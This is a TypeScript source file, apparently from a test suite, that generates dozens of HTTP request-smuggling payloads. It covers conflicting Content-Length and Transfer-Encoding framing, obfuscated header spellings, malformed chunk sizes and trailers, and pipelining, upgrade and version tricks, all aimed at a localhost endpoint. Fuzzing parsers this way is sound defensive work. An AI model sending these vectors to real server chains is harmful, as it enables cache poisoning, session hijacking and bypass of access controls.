/**
 * Requests that two programs in a row may take for different ones, each around an inner request:
 * the bytes of a whole connection. The names are the usual ones: CL.TE is a front that goes by
 * Content-Length before a back that goes by Transfer-Encoding, and so on.
 */
export function smugglingVectors(inner: string): Readonly<Record<string, string>> {
  return {
    ...bothFramings(inner),
    ...obscureCodings(inner),
    ...obscureLengths(inner),
    ...badChunks(inner),
    ...others(inner),
  }
}

const CODINGS = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  ' Transfer-Encoding: chunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:\vchunked',
  'Transfer-Encoding: \0chunked',
  'Transfer-Encoding\0: chunked',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunked;x',
  'Transfer-Encoding: "chunked"',
  'Transfer-Encoding: CHUNKED',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding:\r\n chunked',
  'X: a\nTransfer-Encoding: chunked',
  'X: a\rTransfer-Encoding: chunked',
  'Transfer_Encoding: chunked',
  'Connection: Content-Length\r\nTransfer-Encoding: chunked',
  'Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked',
]

/** Content-Length and Transfer-Encoding, each a right one for a reader that sees it alone. */
function bothFramings(inner: string): Record<string, string> {
  return Object.fromEntries(
    CODINGS.flatMap((coding) => {
      const ended = `1\r\n1\r\n0\r\n\r\n${inner}`
      const start = `${inner.length.toString(16)}\r\n`
      const whole = `${start}${inner}\r\n0\r\n\r\n`
      return [
        [`CL.TE ${shown(coding)}`, put([`Content-Length: ${ended.length}`, coding], ended)],
        [`TE.CL ${shown(coding)}`, put([coding, `Content-Length: ${start.length}`], whole)],
      ]
    }),
  )
}

/** Transfer-Encoding alone: whoever does not see it takes the body for the next request. */
function obscureCodings(inner: string): Record<string, string> {
  return Object.fromEntries(
    CODINGS.flatMap((coding) => [
      [`TE.0 ${shown(coding)}`, put([coding], `${chunk(inner)}0\r\n\r\n`)],
      [`0.TE ${shown(coding)}`, put([coding], inner)],
    ]),
  )
}

function obscureLengths(inner: string): Record<string, string> {
  const length = inner.length
  const lines = [
    `Content-Length: 0\r\nContent-Length: ${length}`,
    `Content-Length: ${length}\r\nContent-Length: 0`,
    `Content-Length: ${length}\r\nContent-Length: ${length}`,
    `Content-Length: ${length}, 0`,
    `Content-Length: 0, ${length}`,
    `Content-Length: +${length}`,
    `Content-Length: 0x${length.toString(16)}`,
    `Content-Length: -${length}`,
    `Content-Length: ${length} 0`,
    `Content-Length: 0 ${length}`,
    `Content-Length: 0\r\n ${length}`,
    `Content-Length: 000${length}`,
    `Content-Length: ${2n ** 64n + BigInt(length)}`,
    `Content-Length : ${length}`,
    `Content-Length\t: ${length}`,
    `Content-Length\0: ${length}`,
    `Content-Length:\v${length}`,
    `Content-Length: ${length}\0`,
    `Content_Length: ${length}`,
    `X: a\nContent-Length: ${length}`,
    `X: a\rContent-Length: ${length}`,
    `Connection: Content-Length\r\nContent-Length: ${length}`,
    'Content-Length:',
  ]
  return Object.fromEntries(
    lines.flatMap((line) => [
      [`PUT ${shown(line)}`, put([line], inner)],
      [`GET ${shown(line)}`, put([line], inner, 'GET /session/k HTTP/1.1')],
    ]),
  )
}

function badChunks(inner: string): Record<string, string> {
  const size = inner.length.toString(16)
  const bodies = {
    'a size too large for 64 bits': `1000000000000000${'1'}\r\n1\r\n0\r\n\r\n${inner}`,
    'a size that overflows to that of the inner request': `10000000000000000${size}\r\n${inner}`,
    'a size with 0x': `0x${size}\r\n${inner}\r\n0\r\n\r\n`,
    'a size with a sign': `+${size}\r\n${inner}\r\n0\r\n\r\n`,
    'a size of -0': `-0\r\n\r\n${inner}`,
    'a size of 00': `1\r\n1\r\n00\r\n\r\n${inner}`,
    'a size with a space': `1 \r\n1\r\n0 \r\n\r\n${inner}`,
    'line feeds alone': `1\n1\n0\n\n${inner}`,
    'a line feed at the end of the size': `1\n1\r\n0\r\n\r\n${inner}`,
    'a line feed at the end of the data': `1\r\n1\n0\r\n\r\n${inner}`,
    'nothing at the end of the data': `1\r\n10\r\n\r\n${inner}`,
    'two bytes of anything at the end of the data': `1\r\n1xx0\r\n\r\n${inner}`,
    'a carriage return alone at the end of the size': `1\r1\r\n0\r\n\r\n${inner}`,
    'an extension that ends with a line feed': `1;\n1\r\n0\r\n\r\n${inner}`,
    'an extension with a line feed': `1;a\nb\r\n1\r\n0\r\n\r\n${inner}`,
    'an extension with a quoted line end': `1;a="\r\n1\r\n0\r\n\r\n${inner}"`,
    'an extension of the last chunk': `1\r\n1\r\n0;a=b\r\n\r\n${inner}`,
    'a trailer with a length': `1\r\n1\r\n0\r\nContent-Length: ${inner.length}\r\n\r\n${inner}`,
    'a trailer with a coding': `1\r\n1\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n${inner}`,
    'the inner request for a trailer': `1\r\n1\r\n0\r\n${inner}`,
    'a trailer that ends with line feeds': `1\r\n1\r\n0\r\nX: a\n\n${inner}`,
  }
  return Object.fromEntries(
    Object.entries(bodies).map(([what, body]) => [
      `chunks: ${what}`,
      put(['Transfer-Encoding: chunked'], body),
    ]),
  )
}

function others(inner: string): Record<string, string> {
  const length = `Content-Length: ${inner.length}`
  const get = 'GET /session/k HTTP/1.1'
  return {
    pipelined: put([], inner, get),
    'after line feeds alone': `${get}\nHost: localhost\n\n${inner}`,
    'after an end of line feeds': `${get}\r\nHost: localhost\n\n${inner}`,
    'after HTTP/1.0': put(['Connection: keep-alive'], inner, 'GET /session/k HTTP/1.0'),
    'after HTTP/1.0 with a coding': put(
      ['Connection: keep-alive', 'Transfer-Encoding: chunked'],
      `1\r\n1\r\n0\r\n\r\n${inner}`,
      'PUT /session/k HTTP/1.0',
    ),
    'after HTTP/0.9': `GET /session/k\r\n${inner}`,
    'after another version': put([], inner, 'GET /session/k HTTP/1.9'),
    'after HEAD': put([length], inner, 'HEAD /session/k HTTP/1.1'),
    'after an expectation': put(['Expect: 100-continue', length], inner),
    'after an expectation on GET': put(['Expect: 100-continue', length], inner, get),
    'after an obscure expectation': put(['Expect: x 100-continue', length], inner),
    'after two expectations': put(['Expect: 100-continue', 'Expect: x', length], inner),
    'after an offer to upgrade': put(['Connection: Upgrade', 'Upgrade: websocket'], inner, get),
    'after an offer to upgrade to h2c': put(
      ['Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQ'],
      inner,
      get,
    ),
    'after CONNECT': put([], inner, 'CONNECT localhost:80 HTTP/1.1'),
    'after an absolute target': put([], inner, 'GET http://localhost/session/k HTTP/1.1'),
    'in the target': `GET /session/k HTTP/1.1\rX: ${inner}`,
    'in a header, after a carriage return': put([`X: a\r\r${inner}`], '', get),
    'in a header, after line feeds': put([`X: a\n\n${inner}`], '', get),
    'after an empty header': put([':'], inner, get),
    'after two Hosts': put(['Host: other'], inner, get),
    'after the end of the last chunk': put(['Transfer-Encoding: chunked'], `0\r\n\r\n${inner}`),
  }
}

function put(lines: readonly string[], body: string, first = 'PUT /session/k HTTP/1.1'): string {
  return [first, 'Host: localhost', ...lines, '', body].join('\r\n')
}

function chunk(data: string): string {
  return `${data.length.toString(16)}\r\n${data}\r\n`
}

function shown(line: string): string {
  return JSON.stringify(line)
}
